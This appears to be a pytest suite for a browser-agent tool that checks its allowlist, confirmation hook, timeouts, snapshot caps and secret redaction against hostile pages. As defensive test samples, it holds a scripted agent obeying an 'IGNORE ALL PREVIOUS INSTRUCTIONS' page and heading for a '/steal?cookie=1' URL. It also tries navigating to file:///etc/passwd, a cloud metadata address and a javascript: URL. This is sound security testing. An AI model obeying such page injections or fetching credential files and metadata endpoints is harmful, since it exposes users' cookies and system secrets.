"""Bad and hostile pages: blocked redirects and links, a foreign iframe, prompt injection, a page that never
loads, a 5 MB page, stale refs, refused confirmations. The blocked origin's server must never see a request."""

from __future__ import annotations

import threading
from pathlib import Path
from typing import Any

import pytest

from cua_helpers import call, ref_of
from lllm.errors import ActionRefused, ActionTimeout, BlockedNavigation, StaleRef
from lllm.tools.cua import BrowserSession, ConfirmRequest

pytestmark = pytest.mark.browser


def test_redirect_and_link_to_a_blocked_origin(run_tactic: Any, server: Any, blocked_server: Any,
                                               cu_block: dict[str, Any]) -> None:
    block = {**cu_block, "start_url": server.url("redirect.html")}
    steps = [
        lambda obs: call("browser_click", ref=ref_of(obs, r'link "Visit our partner')),
        call("browser_navigate", url=server.url("redirect.html")),
        lambda obs: call("browser_click", ref=ref_of(obs, r'link "A direct link')),
        "Both links lead off the allowed site and were blocked.",
    ]
    answer, plan, _, _ = run_tactic(steps, block)
    assert blocked_server.hits == []
    assert "/redirect-away" in server.hits  # the redirect itself was served; only its target was refused
    redirect_obs, link_obs = plan.seen[1], plan.seen[3]
    assert f"blocked a request to {blocked_server.origin}/landing.html" in redirect_obs
    assert "is not on the allowlist" in redirect_obs
    assert "You reached another site" not in redirect_obs + link_obs
    assert f"blocked a request to {blocked_server.origin}/landing.html" in link_obs


def test_prompt_injection_cannot_send_the_agent_elsewhere(run_tactic: Any, server: Any, blocked_server: Any,
                                                         cu_block: dict[str, Any]) -> None:
    """The scripted model obeys the page (as a gullible model would); the allowlist still holds."""
    block = {**cu_block, "start_url": server.url("injection.html")}
    steal = f"{blocked_server.origin}/steal?cookie=1"
    steps = [
        call("browser_navigate", url=steal),
        call("browser_open_tab", url=steal),
        lambda obs: call("browser_click", ref=ref_of(obs, r'link "Claim your reward"')),
        "The mug has good reviews.",
    ]
    answer, plan, tactic, store = run_tactic(steps, block)
    assert "IGNORE ALL PREVIOUS INSTRUCTIONS".lower() in plan.seen[0].lower()  # the model did see the injection
    assert plan.seen[1].startswith("Error: BlockedNavigation: navigation to")
    assert "is not on the allowlist" in plan.seen[1]
    assert plan.seen[2].startswith("Error: BlockedNavigation")
    assert "blocked a request" in plan.seen[3]
    assert blocked_server.hits == []
    statuses = [(r.action, r.status) for r in store.load_session(tactic.last_session.session_id).of_kind("browser_action")]
    assert ("navigate", "blocked") in statuses and ("open_tab", "blocked") in statuses


def test_foreign_iframe_and_pixel_are_blocked(server: Any, blocked_server: Any, cu_block: dict[str, Any]) -> None:
    with BrowserSession(cu_block) as s:
        s.perform("navigate", url=server.url("iframe.html"))
        obs = s.observe()
    assert blocked_server.hits == []
    assert "A pop-up window" in obs.text  # the same-origin iframe is in the snapshot
    assert "You reached another site" not in obs.text
    blocked = [url for url, _ in s.blocked]
    assert f"{blocked_server.origin}/landing.html" in blocked and f"{blocked_server.origin}/pixel.png" in blocked
    assert "blocked a request to" in obs.text


def test_blocked_window_open_popup(server: Any, blocked_server: Any, cu_block: dict[str, Any]) -> None:
    with BrowserSession(cu_block) as s:
        s.perform("navigate", url=server.url("newtab.html"))
        s.perform("click", selector="text=Open blocked pop-up")
        obs = s.observe()
        assert len(s.log) == 2
    assert blocked_server.hits == []
    assert "opened tab 1" in obs.text and "blocked a request to" in obs.text


def test_page_that_never_finishes_loading(server: Any, cu_block: dict[str, Any]) -> None:
    with BrowserSession({**cu_block, "navigation_timeout_s": 2}) as s:
        with pytest.raises(ActionTimeout, match="session usable"):
            s.perform("navigate", url=server.url("never"))
        assert s.log[-1].status == "timeout"
        # the session is still usable
        s.perform("navigate", url=server.url("table.html"))
        assert 'cell "Red teapot"' in s.observe().text


def test_five_megabyte_page_is_capped(run_tactic: Any, server: Any, cu_block: dict[str, Any]) -> None:
    block = {**cu_block, "start_url": server.url("table.html"), "snapshot_tokens": 1500}
    steps = [call("browser_navigate", url=server.url("big")), call("browser_find_text", text="THE END"), "done"]
    _, plan, tactic, _ = run_tactic(steps, block)
    big = plan.seen[1]
    assert len(big) < 1500 * 4 + 1000
    assert "snapshot cut to ~1500 tokens" in big and "line(s) were cut" in big
    assert 'paragraph [ref=' in plan.seen[2] and "THE END" in plan.seen[2]
    # no request to the model carried the 5 MB
    assert max(len(str(c.messages)) for c in tactic.llm_invoker.calls) < 60_000


def test_stale_ref_gives_a_fresh_snapshot(run_tactic: Any, server: Any, cu_block: dict[str, Any]) -> None:
    block = {**cu_block, "start_url": server.url("form.html")}
    remembered: dict[str, str] = {}

    def remember(obs: str) -> Any:
        remembered["send"] = ref_of(obs, r'button "Send"')
        return call("browser_navigate", url=server.url("table.html"))

    steps = [remember, lambda obs: call("browser_click", ref=remembered["send"]), "gave up"]
    _, plan, _, _ = run_tactic(steps, block)
    stale = plan.seen[2]
    assert stale.startswith(f"Error: StaleRef: the element ref '{remembered['send']}' is not on the page any more")
    assert 'cell "Red teapot"' in stale  # the fresh snapshot comes with the error
    assert server.posts_to("contact") == []


def test_stale_ref_error_carries_the_snapshot(server: Any, cu_block: dict[str, Any]) -> None:
    with BrowserSession(cu_block) as s:
        s.perform("navigate", url=server.url("form.html"))
        with pytest.raises(StaleRef) as info:
            s.perform("click", ref="e999")
        assert 'textbox "Name"' in info.value.snapshot
        assert s.log[-1].status == "error"


def test_confirmation_hook_guards_submit_upload_and_leaving(server: Any, blocked_server: Any,
                                                            cu_block: dict[str, Any], tmp_path: Path) -> None:
    asked: list[ConfirmRequest] = []
    threads: set[str] = set()

    def hook(request: ConfirmRequest) -> bool:
        asked.append(request)
        threads.add(threading.current_thread().name)
        return request.kind == "navigation"  # allow leaving (to a non-private host only), refuse the rest

    (tmp_path / "cv.txt").write_text("my cv")
    with BrowserSession(cu_block, confirm=hook, workdir=tmp_path) as s:
        s.perform("navigate", url=server.url("form.html"))
        s.perform("type_text", selector="input[name=name]", text="Eve")
        with pytest.raises(ActionRefused, match="refused this submit"):
            s.perform("click", selector="button")
        with pytest.raises(ActionRefused):
            s.perform("press", keys="Enter", selector="input[name=name]")
        s.perform("navigate", url=server.url("upload.html"))
        with pytest.raises(ActionRefused, match="upload"):
            s.perform("upload", paths=["cv.txt"], selector="input[type=file]")
        # the hook allows leaving the allowlist, but a loopback host stays blocked (private)
        with pytest.raises(BlockedNavigation, match="private address"):
            s.perform("navigate", url=blocked_server.url("landing.html"))
        assert [r.status for r in s.log[-4:]] == ["blocked", "ok", "blocked", "blocked"]
        s.perform("navigate", url=server.url("download.html"))
        s.perform("click", selector="text=Download the quarterly report")
        assert "download of report.csv was cancelled: the confirmation hook refused it" in s.observe().text
    assert not (tmp_path / "downloads").exists()
    assert [r.kind for r in asked] == ["submit", "submit", "upload", "navigation", "download"]
    assert asked[0].detail["method"] == "post" and asked[0].detail["form_action"].endswith("/submit/contact")
    assert server.posts_to("contact") == [] and server.uploads == []
    assert blocked_server.hits == []
    assert "lllm-playwright" not in threads  # hooks never run on the browser thread


def test_secret_in_url_is_redacted_everywhere(server: Any, cu_block: dict[str, Any]) -> None:
    records: list[Any] = []
    with BrowserSession(cu_block, secrets={"TOKEN": "tok-98765"}, tracer=records.append) as s:
        s.perform("navigate", url=server.url("table.html?token={{secret:TOKEN}}"))
        obs = s.observe()
    assert "/table.html?token=tok-98765" in server.hits
    assert "tok-98765" not in obs.text and "{{secret:TOKEN}}" in obs.text
    assert "tok-98765" not in repr(records) and "tok-98765" not in s.export_script()


def test_file_and_private_urls_are_blocked_without_an_allowlist(server: Any) -> None:
    """With no allowlist any public host is allowed; file://, metadata and loopback addresses still are not."""
    with BrowserSession({"navigation_timeout_s": 5}) as s:
        for url in ("file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", server.url("form.html"),
                    "chrome://settings", "javascript:alert(1)"):
            with pytest.raises(BlockedNavigation):
                s.perform("navigate", url=url)
        assert "root:x:0:0" not in s.observe().text and s.observe().url == "about:blank"
    assert server.hits == []
